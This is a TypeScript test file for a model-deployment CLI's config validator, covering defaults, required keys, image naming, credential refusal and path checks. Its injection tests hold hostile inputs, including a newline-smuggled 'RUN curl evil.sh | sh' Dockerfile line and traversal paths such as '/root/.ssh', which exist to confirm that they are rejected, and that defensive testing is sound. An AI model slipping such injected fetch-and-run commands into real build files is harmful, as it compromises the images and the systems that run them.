import caffe from '@uai/plugin-caffe';
import { describe, expect, it } from 'vitest';
import { mnistModel } from './caffe-mnist.fixture.js';
import { ConfigError } from '../errors/uai-error.js';
import { builtinPlugins } from '../plugins/builtin-plugins.fixture.js';
import { PluginRegistry } from '../plugins/registry.js';
import { validateConfig, type ResolvedModel } from './validate.js';

const plugins = new PluginRegistry([caffe()], builtinPlugins);

const mnist = mnistModel;

type Raw = Record<string, unknown>;

function config(model: Raw = {}, top: Raw = {}): Raw {
  return { registry: { namespace: 'uai_demo' }, models: [{ ...mnist, ...model }], ...top };
}

function without(key: string, value: Raw = mnist): Raw {
  const copy = { ...value };
  delete copy[key];
  return copy;
}

/** The issues as the CLI prints them: `path: message`. */
function problems(raw: unknown): string[] {
  const result = validateConfig(raw, plugins);
  if (result.issues.length > 0) expect(result.config).toBeUndefined();
  return result.issues.map((issue) => (issue.path ? `${issue.path}: ${issue.message}` : issue.message));
}

describe('validateConfig: a valid config', () => {
  it('resolves the caffe example with every default filled in', () => {
    const { config: resolved, issues } = validateConfig(config({ aiArchV: undefined }), plugins);
    expect(issues).toEqual([]);
    const { plugin, ...model } = resolved!.models[0];
    expect(plugin.name).toBe('@uai/plugin-caffe');
    expect({ ...resolved, models: [model] }).toEqual({
      registry: { host: 'uhub.ucloud.cn', internalHost: 'uhub.service.ucloud.cn', inUhost: false, namespace: 'uai_demo' },
      concurrency: undefined,
      builder: 'auto',
      models: [
        {
          name: 'mnist',
          framework: 'caffe',
          aiArchV: 'caffe-1.0.0',
          baseImage: undefined,
          packFilePath: './examples/caffe-mnist/code',
          mainModule: 'mnist_inference',
          mainClass: 'MnistModel',
          modelDir: 'checkpoint_dir',
          image: 'caffe-inference:test',
          os: 'ubuntu',
          pythonVersion: 'python-2.7.6',
          options: { modelName: 'mnist_model' },
        },
      ],
    });
  });

  it('merges defaults under every model; a model key wins over its default', () => {
    const raw = {
      registry: { namespace: 'uai_demo' },
      defaults: { os: 'ubuntu-14.04', pythonVersion: 'python-2.7', packFilePath: 'code', mainModule: 'shared', mainClass: 'Shared', modelDir: 'models' },
      models: [
        { name: 'a', framework: 'caffe', modelName: 'a', image: 'a:1' },
        { name: 'b', framework: 'caffe', modelName: 'b', image: 'b:1', os: 'ubuntu', mainClass: 'B', modelDir: undefined },
      ],
    };
    const { config: resolved, issues } = validateConfig(raw, plugins);
    expect(issues).toEqual([]);
    const pick = ({ os, pythonVersion, packFilePath, mainModule, mainClass, modelDir }: ResolvedModel) => ({
      os,
      pythonVersion,
      packFilePath,
      mainModule,
      mainClass,
      modelDir,
    });
    expect(resolved!.models.map(pick)).toEqual([
      { os: 'ubuntu-14.04', pythonVersion: 'python-2.7', packFilePath: 'code', mainModule: 'shared', mainClass: 'Shared', modelDir: 'models' },
      // `modelDir: undefined` (say, from an unset env var) does not hide the default.
      { os: 'ubuntu', pythonVersion: 'python-2.7', packFilePath: 'code', mainModule: 'shared', mainClass: 'B', modelDir: 'models' },
    ]);
  });

  it.each([
    { name: 'UCloud\'s Intel spelling "caffe-intel 1.0.0"', model: { aiArchV: 'caffe-intel 1.0.0' } },
    { name: 'a modelDir written "./checkpoint_dir"', model: { modelDir: './checkpoint_dir' } },
    { name: 'a packed module path', model: { mainModule: 'pkg.inference' } },
    { name: 'a baseImage on a local registry', model: { baseImage: 'localhost:5000/uaishare/caffe:v1' } },
    { name: 'a baseImage pinned by digest', model: { baseImage: `uhub.ucloud.cn/uaishare/caffe@sha256:${'a'.repeat(64)}` } },
    { name: 'a registry host with a port', top: { registry: { namespace: 'uai_demo', host: '127.0.0.1:5000' } } },
  ])('accepts $name', ({ model, top }: { model?: Raw; top?: Raw }) => {
    expect(problems(config(model, top))).toEqual([]);
  });
});

describe('validateConfig: problems name the model and the key', () => {
  const cases: { name: string; raw: unknown; expected: string[] }[] = [
    { name: 'missing mainClass', raw: config(undefined, { models: [without('mainClass')] }), expected: ['models[0].mainClass: required for framework caffe'] },
    {
      name: 'missing mainModule',
      raw: config(undefined, { models: [without('mainModule')] }),
      expected: ['models[0].mainModule: required for framework caffe'],
    },
    { name: 'missing modelDir', raw: config(undefined, { models: [without('modelDir')] }), expected: ['models[0].modelDir: required for framework caffe'] },
    { name: 'missing modelName', raw: config(undefined, { models: [without('modelName')] }), expected: ['models[0].modelName: required for framework caffe'] },
    {
      name: 'missing packFilePath',
      raw: config(undefined, { models: [without('packFilePath')] }),
      expected: ['models[0].packFilePath: required (here or in defaults)'],
    },
    { name: 'missing image', raw: config(undefined, { models: [without('image')] }), expected: ['models[0].image: required'] },
    { name: 'missing name', raw: config(undefined, { models: [without('name')] }), expected: ['models[0].name: required'] },
    { name: 'missing framework', raw: config(undefined, { models: [without('framework')] }), expected: ['models[0].framework: required'] },
    { name: 'missing registry', raw: { models: [mnist] }, expected: ['registry: required'] },
    { name: 'missing namespace', raw: config(undefined, { registry: {} }), expected: ['registry.namespace: required'] },
    { name: 'missing models', raw: { registry: { namespace: 'uai_demo' } }, expected: ['models: required'] },
    { name: 'no models', raw: config(undefined, { models: [] }), expected: ['models: declare at least one model'] },
    {
      name: 'models not an array',
      raw: config(undefined, { models: { mnist } }),
      expected: ['models: expected an array of models, got object'],
    },
    {
      name: 'a config that is not an object',
      raw: undefined,
      expected: ['required'],
    },
    {
      name: 'a config that exports an array',
      raw: [mnist],
      expected: ['expected an object: export default defineConfig({ registry, models }), got an array'],
    },
    {
      name: 'the second model missing a key',
      raw: config(undefined, { models: [mnist, { ...without('modelName'), name: 'second', image: 'second:v1' }] }),
      expected: ['models[1].modelName: required for framework caffe'],
    },
    {
      name: 'an unknown framework (lists the known ones)',
      raw: config({ framework: 'onnx' }),
      expected: [
        'models[0].framework: unknown framework "onnx"; known: caffe, keras, mxnet, self, tensorflow, tf, xgboost. A third-party framework needs its plugin in `plugins: [...]` or an installed uai-plugin-<framework> package',
      ],
    },
    {
      name: 'an uppercase framework',
      raw: config({ framework: 'Caffe' }),
      expected: [
        'models[0].framework: unknown framework "Caffe"; known: caffe, keras, mxnet, self, tensorflow, tf, xgboost. Did you mean "caffe"? A third-party framework needs its plugin in `plugins: [...]` or an installed uai-plugin-<framework> package',
      ],
    },
    {
      name: 'an uppercase namespace',
      raw: config(undefined, { registry: { namespace: 'UAI_Demo' } }),
      expected: ['registry.namespace: "UAI_Demo" is not valid: must be lowercase letters, digits and . _ - (the UHub repository)'],
    },
    {
      name: 'an uppercase image',
      raw: config({ image: 'Caffe-Inference:test' }),
      expected: ['models[0].image: "Caffe-Inference:test" is not valid: the name must be lowercase: caffe-inference:test'],
    },
    {
      name: 'an image without a tag',
      raw: config({ image: 'caffe-inference' }),
      expected: ['models[0].image: "caffe-inference" is not valid: has no tag: add one, like caffe-inference:v1'],
    },
    { name: 'a number for mainClass', raw: config({ mainClass: 42 }), expected: ['models[0].mainClass: expected a string, got number'] },
    { name: 'null for modelDir', raw: config({ modelDir: null }), expected: ['models[0].modelDir: expected a string, got null'] },
    { name: 'an array for modelName', raw: config({ modelName: ['mnist_model'] }), expected: ['models[0].modelName: expected a string, got an array'] },
    {
      name: '"yes" for inUhost',
      raw: config(undefined, { registry: { namespace: 'uai_demo', inUhost: 'yes' } }),
      expected: ['registry.inUhost: Invalid input: expected boolean, received string'],
    },
    { name: 'concurrency 0', raw: config(undefined, { concurrency: 0 }), expected: ['concurrency: Too small: expected number to be >=1'] },
    { name: 'concurrency 1.5', raw: config(undefined, { concurrency: 1.5 }), expected: ['concurrency: Invalid input: expected int, received number'] },
    {
      name: 'an unknown builder',
      raw: config(undefined, { builder: 'podman' }),
      expected: ['builder: Invalid option: expected one of "auto"|"docker"|"native"'],
    },
    {
      name: 'duplicate model names',
      raw: config(undefined, { models: [mnist, { ...mnist, image: 'other:1' }, mnist] }),
      expected: [
        'models[1].name: duplicate model name "mnist" (also models[0]); names must be unique',
        'models[2].name: duplicate model name "mnist" (also models[0]); names must be unique',
      ],
    },
    {
      name: 'two models with one image',
      raw: config(undefined, { models: [mnist, { ...mnist, name: 'mnist2' }] }),
      expected: [
        'models[1].image: "caffe-inference:test" is also the image of models[0]; each model needs its own name or tag, or one would overwrite the other',
      ],
    },
    {
      name: 'an image with a registry host in front',
      raw: config({ image: 'uhub.ucloud.cn/team/mnist:v1' }),
      expected: [
        'models[0].image: "uhub.ucloud.cn/team/mnist:v1" is not valid: starts with a registry host (uhub.ucloud.cn): give only name:tag; it is pushed as <registry.host>/<registry.namespace>/<image>, so set those for where it goes',
      ],
    },
    {
      // Docker reads a first component with a dot as a registry host, so uai does too.
      name: 'an image whose first path component has a dot',
      raw: config({ image: 'my.models/app:v1' }),
      expected: [
        'models[0].image: "my.models/app:v1" is not valid: starts with a registry host (my.models): give only name:tag; it is pushed as <registry.host>/<registry.namespace>/<image>, so set those for where it goes',
      ],
    },
    { name: 'a nested image path', raw: config({ image: 'team/app:v1' }), expected: [] },
    {
      name: 'an empty image',
      raw: config({ image: '' }),
      expected: ['models[0].image: "" is not valid: is empty: must be name:tag, the name in lowercase letters, digits and . _ -, like caffe-inference:v1'],
    },
    {
      name: 'an image with a character no fix makes valid',
      raw: config({ image: 'Foo$:v1' }),
      expected: ['models[0].image: "Foo$:v1" is not valid: must be name:tag, the name in lowercase letters, digits and . _ -, like caffe-inference:v1'],
    },
    {
      name: 'an image with a space',
      raw: config({ image: 'mnist model:v1' }),
      expected: ['models[0].image: "mnist model:v1" is not valid: contains a space or line break: use name:tag with - or _ instead'],
    },
    { name: 'an unknown top-level key', raw: config(undefined, { modles: [] }), expected: ['modles: unknown key'] },
    {
      name: 'an unknown registry key',
      raw: config(undefined, { registry: { namespace: 'uai_demo', hostname: 'x' } }),
      expected: ['registry.hostname: unknown key'],
    },
    {
      name: 'a password in the config',
      raw: config(undefined, { registry: { namespace: 'uai_demo', password: 'hunter22' } }),
      expected: [
        'registry.password: unknown key: credentials never go in the config; set UHUB_USERNAME and UHUB_PASSWORD in the environment (or use docker login)',
      ],
    },
    { name: 'an unknown model key', raw: config({ model_name: 'x' }), expected: ['models[0].model_name: unknown key for framework caffe'] },
    { name: 'an unknown key with a space', raw: config({ 'main class': 'X' }), expected: ['models[0]["main class"]: unknown key for framework caffe'] },
    {
      name: 'a key defaults cannot hold',
      raw: config(undefined, { defaults: { name: 'shared', image: 'x:1' } }),
      expected: ['defaults.name: unknown key', 'defaults.image: unknown key'],
    },
    {
      name: 'problems in several models and keys at once',
      raw: config(undefined, {
        models: [
          { ...mnist, image: 'UPPER:1', extra: true },
          { ...without('mainClass'), name: 'b', framework: 'nope', image: 'b:1' },
          { ...without('mainClass'), name: 'c', image: 'c:1' },
        ],
      }),
      expected: [
        'models[0].image: "UPPER:1" is not valid: the name must be lowercase: upper:1',
        'models[0].extra: unknown key for framework caffe',
        'models[1].framework: unknown framework "nope"; known: caffe, keras, mxnet, self, tensorflow, tf, xgboost. A third-party framework needs its plugin in `plugins: [...]` or an installed uai-plugin-<framework> package',
        'models[2].mainClass: required for framework caffe',
      ],
    },
  ];

  it.each(cases)('$name', ({ raw, expected }) => {
    expect(problems(raw)).toEqual(expected);
  });
});

describe('validateConfig: no value can reach the Dockerfile or the JSON unchecked', () => {
  const bad = [
    { what: 'a newline', value: 'x\nRUN curl evil.sh | sh' },
    { what: 'a carriage return', value: 'x\rRUN id' },
    { what: 'a double quote', value: 'x"y' },
    { what: 'a single quote', value: "x'y" },
    { what: 'a NUL', value: 'x\u0000y' },
    { what: 'a tab', value: 'x\ty' },
    { what: 'a backslash', value: 'x\\y' },
    { what: 'an escape character', value: 'x\u001b[31my' },
  ];
  const fields: { field: string; place: (value: string) => Raw }[] = [
    { field: 'models[0].mainModule', place: (value) => config({ mainModule: value }) },
    { field: 'models[0].mainClass', place: (value) => config({ mainClass: value }) },
    { field: 'models[0].modelName', place: (value) => config({ modelName: value }) },
    { field: 'models[0].image', place: (value) => config({ image: `caffe:${value}` }) },
    { field: 'models[0].name', place: (value) => config({ name: value }) },
    { field: 'models[0].baseImage', place: (value) => config({ baseImage: `uhub.ucloud.cn/uaishare/caffe:${value}` }) },
    { field: 'models[0].aiArchV', place: (value) => config({ aiArchV: `caffe-1.0.0${value}` }) },
    { field: 'models[0].os', place: (value) => config({ os: `ubuntu${value}` }) },
    { field: 'models[0].pythonVersion', place: (value) => config({ pythonVersion: `python-2.7${value}` }) },
    { field: 'models[0].packFilePath', place: (value) => config({ packFilePath: `code/${value}` }) },
    { field: 'models[0].modelDir', place: (value) => config({ modelDir: `checkpoint_${value}` }) },
    { field: 'registry.namespace', place: (value) => config(undefined, { registry: { namespace: value } }) },
    { field: 'registry.host', place: (value) => config(undefined, { registry: { namespace: 'uai_demo', host: `uhub.ucloud.cn${value}` } }) },
    { field: 'defaults.os', place: (value) => config(undefined, { defaults: { os: value } }) },
  ];
  const cases = fields.flatMap(({ field, place }) => bad.map(({ what, value }) => ({ name: `${field} with ${what}`, field, raw: place(value) })));

  it.each(cases)('$name', ({ field, raw }) => {
    const found = problems(raw);
    expect(found).toHaveLength(1);
    expect(found[0].startsWith(`${field}: `)).toBe(true);
    // The value is shown escaped: a message never carries the raw control character to the terminal.
    // eslint-disable-next-line no-control-regex
    expect(found[0]).not.toMatch(/[\u0000-\u001f]/);
  });

  it('explains what is wrong with a path, quoting it', () => {
    expect(problems(config({ modelDir: 'a\nb', mainModule: 'x\ny' }))).toMatchInlineSnapshot(`
      [
        "models[0].mainModule: "x\\ny" is not valid: must be a Python module name like mnist_inference",
        "models[0].modelDir: "a\\nb" must not contain control characters (newlines, tabs)",
      ]
    `);
  });
});

describe('validateConfig: paths stay inside the config folder', () => {
  const cases = [
    {
      name: 'packFilePath with ..',
      model: { packFilePath: '../elsewhere/code' },
      expected: 'models[0].packFilePath: "../elsewhere/code" must stay inside its folder (no \'..\')',
    },
    {
      name: 'packFilePath with .. inside',
      model: { packFilePath: 'code/../../x' },
      expected: 'models[0].packFilePath: "code/../../x" must stay inside its folder (no \'..\')',
    },
    { name: 'packFilePath that is ..', model: { packFilePath: '..' }, expected: 'models[0].packFilePath: ".." must stay inside its folder (no \'..\')' },
    { name: 'an absolute packFilePath', model: { packFilePath: '/etc' }, expected: 'models[0].packFilePath: "/etc" must be relative, not absolute' },
    { name: 'a Windows drive packFilePath', model: { packFilePath: 'C:/code' }, expected: 'models[0].packFilePath: "C:/code" must be relative, not absolute' },
    { name: 'an empty packFilePath', model: { packFilePath: '' }, expected: 'models[0].packFilePath: "" must not be empty' },
    { name: 'modelDir with ..', model: { modelDir: '../../weights' }, expected: 'models[0].modelDir: "../../weights" must stay inside its folder (no \'..\')' },
    { name: 'an absolute modelDir', model: { modelDir: '/root/.ssh' }, expected: 'models[0].modelDir: "/root/.ssh" must be relative, not absolute' },
  ];

  it.each(cases)('$name', ({ model, expected }) => {
    expect(problems(config(model))).toEqual([expected]);
  });

  it('is a config error: exit status 2, each line naming the key', () => {
    const { issues } = validateConfig(config({ packFilePath: '../x', modelDir: '/abs' }), plugins);
    const error = new ConfigError(issues, 'uai.config.ts');
    expect(error.code).toBe('UAI_CONFIG_INVALID');
    expect(error.exitCode).toBe(2);
    expect(error.message).toMatchInlineSnapshot(`
      "The config in uai.config.ts is invalid:
        models[0].packFilePath: "../x" must stay inside its folder (no '..')
        models[0].modelDir: "/abs" must be relative, not absolute"
    `);
  });
});

describe('keys a pass-through framework would copy into the image', () => {
  it.each([
    { key: 'pythonversion', message: 'unknown key; did you mean pythonVersion?' },
    { key: 'ModelDir', message: 'unknown key; did you mean modelDir?' },
    { key: 'uhubPassword', message: expect.stringContaining('credentials never go in the config') },
    { key: 'api_token', message: expect.stringContaining('credentials never go in the config') },
  ])('$key is refused even for tensorflow, once', async ({ key, message }) => {
    const tf = (await import('@uai/plugin-tensorflow')).default;
    const model = { name: 'm', framework: 'tf', packFilePath: 'c', mainModule: 'a', mainClass: 'B', modelDir: 'd', image: 'i:t', [key]: 'x' };
    for (const plugin of [tf(), caffe()]) {
      const { config, issues } = validateConfig(
        { registry: { namespace: 'ns' }, models: [{ ...model, framework: plugin.framework, modelName: 'n' }] },
        new PluginRegistry([plugin]),
      );
      expect(config).toBeUndefined();
      expect(issues.filter((issue) => issue.path === `models[0].${key}`)).toEqual([{ path: `models[0].${key}`, message }]);
    }
  });
});
